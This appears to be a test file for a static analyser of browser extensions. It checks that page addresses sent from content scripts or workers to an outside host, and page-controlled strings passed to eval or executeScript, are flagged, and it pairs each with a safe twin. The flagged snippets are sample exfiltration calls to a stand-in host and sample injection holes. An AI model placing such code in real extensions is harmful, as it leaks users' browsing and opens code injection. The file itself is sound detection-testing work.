import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

/** What is guaranteed, code in a content script that sends the address of its page, and code like it that does not. */
type Twin = readonly [what: string, found: string, safe: string];

const send = (data: string): string => `navigator.sendBeacon('https://in.a.dev/v', ${data})`;
const flow = 'tabs content.js > network';

const forms: readonly Twin[] = [
  ['location.href', send('location.href'), send('location.hostname')],
  ['document.URL', send('document.URL'), send('document.readyState')],
  ['document.location', send('String(document.location)'), send('document.location.origin')],
  ['window.location', send('window.location.toString()'), send('window.location.protocol')],
  ['the page before', send('document.referrer'), send('document.dir')],
  [
    'a site and a path',
    send('location.hostname + location.pathname'),
    send("location.hostname + '/about'"),
  ],
  [
    'an address that is taken apart',
    `const u = new URL(location.href); ${send('u.origin + u.pathname')}`,
    `const u = new URL(location.href); ${send('u.hostname')}`,
  ],
  ['its first part', send("location.href.split('?')[0]"), send("location.href.split('/')[2]")],
  [
    'one parameter is not the address',
    send('location.href'),
    send("new URLSearchParams(location.search).get('v')"),
  ],
  [
    'what a pattern finds is not the address',
    send("location.href.replace('#', '')"),
    send('location.href.match(/v=([^&]+)/)[1]'),
  ],
  [
    'only to a host that is known',
    `fetch('https://in.a.dev/v?u=' + location.href)`,
    'fetch(location.href)',
  ],
];

describe('the address of the page', () => {
  for (const [what, found, safe] of forms) {
    it(`is followed: ${what}`, () => {
      assert.match(flowsBetween({ 'content.js': found }).join('\n'), new RegExp(flow));
      assert.doesNotMatch(flowsBetween({ 'content.js': safe }).join('\n'), new RegExp(flow));
    });
  }

  it('is no data where it is an extension page’s own', () => {
    const files = {
      'popup.html': `<script src="popup.js"></script>`,
      'popup.js': send('location.href'),
    };
    assert.deepEqual(flowsBetween(files), []);
  });

  it('is no theft where it stays in the browser', () => {
    const code = `localStorage.setItem('last', location.href); location.href = location.href + '#top'`;
    assert.deepEqual(
      flowsBetween({ 'content.js': code }).filter((each) => each.includes('theft')),
      [],
    );
  });
});

describe('the address of the page that sent a message', () => {
  const hear = (use: string): string =>
    `chrome.runtime.onMessage.addListener((message, sender) => { if (message.kind === 'seen') { ${use} } })`;
  const say = (kind: string): string => `chrome.runtime.sendMessage({ kind: '${kind}' })`;

  for (const read of ['sender.tab.url', 'sender.url', '(({ tab }) => tab.url)(sender)']) {
    it(`is followed: ${read}`, () => {
      const files = { 'content.js': say('seen'), 'worker.js': hear(send(read)) };
      assert.match(flowsBetween(files).join('\n'), new RegExp(`${flow} worker.js`));
    });
  }

  it('is not taken for the message, nor the tab’s number for its address', () => {
    for (const read of ['sender.tab.id', 'message.kind', 'sender.frameId']) {
      const files = { 'content.js': say('seen'), 'worker.js': hear(send(read)) };
      assert.doesNotMatch(flowsBetween(files).join('\n'), new RegExp(flow));
    }
  });

  it('is only of messages that the listener takes, and that are sent unasked', () => {
    const asked = `document.addEventListener('click', () => { ${say('seen')} })`;
    for (const content of [say('other'), asked]) {
      const files = { 'content.js': content, 'worker.js': hear(send('sender.tab.url')) };
      assert.doesNotMatch(flowsBetween(files).join('\n'), new RegExp(flow));
    }
  });
});

describe('what a page may choose and becomes code', () => {
  const exposures: readonly Twin[] = [
    ['the fragment', 'eval(location.hash.slice(1))', 'eval(location.hash.length)'],
    [
      'the whole address',
      "eval('go(' + location.href + ')')",
      "eval('go(' + JSON.stringify(location.href) + ')')",
    ],
    [
      'a parameter',
      "eval(new URLSearchParams(location.search).get('run'))",
      "if (new URLSearchParams(location.search).get('run')) eval('f()')",
    ],
    [
      'text of an element',
      "eval(document.querySelector('#cfg').textContent)",
      "eval(document.createElement('p').textContent)",
    ],
    ['an attribute', "eval(document.getElementById('cfg').dataset.run)", 'eval(made.dataset.run)'],
    [
      'an attribute by its name',
      "eval(document.querySelector('#cfg').getAttribute('data-run'))",
      "eval(document.querySelector('#cfg').getAttribute('id'))",
    ],
    [
      'an attribute of what is clicked',
      "document.addEventListener('click', (e) => eval(e.target.dataset.run))",
      "button.addEventListener('click', (e) => eval(e.target.dataset.run))",
    ],
  ];
  for (const [what, found, safe] of exposures) {
    it(`is an exposure: ${what}`, () => {
      const exposure = /page-event content\.js > code-execution content\.js \(exposure/;
      assert.match(flowsBetween({ 'content.js': found }).join('\n'), exposure);
      assert.doesNotMatch(flowsBetween({ 'content.js': safe }).join('\n'), exposure);
    });
  }

  it('is not in the extension’s own pages, nor behind the address of a fixed script', () => {
    const popup = {
      'popup.html': `<script src="popup.js"></script>`,
      'popup.js': 'eval(location.hash)',
    };
    assert.deepEqual(flowsBetween(popup), []);
    const script = `const s = document.createElement('script'); s.src = 'https://cdn.a.dev/x.js?u=' + location.href`;
    assert.deepEqual(flowsBetween({ 'content.js': script }), []);
  });

  it('is found through a message', () => {
    const files = {
      'content.js':
        'chrome.runtime.sendMessage({ code: document.body.dataset.run, hash: location.hash })',
      'worker.js':
        'chrome.runtime.onMessage.addListener(({ hash }, { tab }) => chrome.tabs.executeScript(tab.id, { code: hash }))',
    };
    assert.match(
      flowsBetween(files).join('\n'),
      /page-event content\.js > script-injection worker\.js \(exposure/,
    );
  });
});
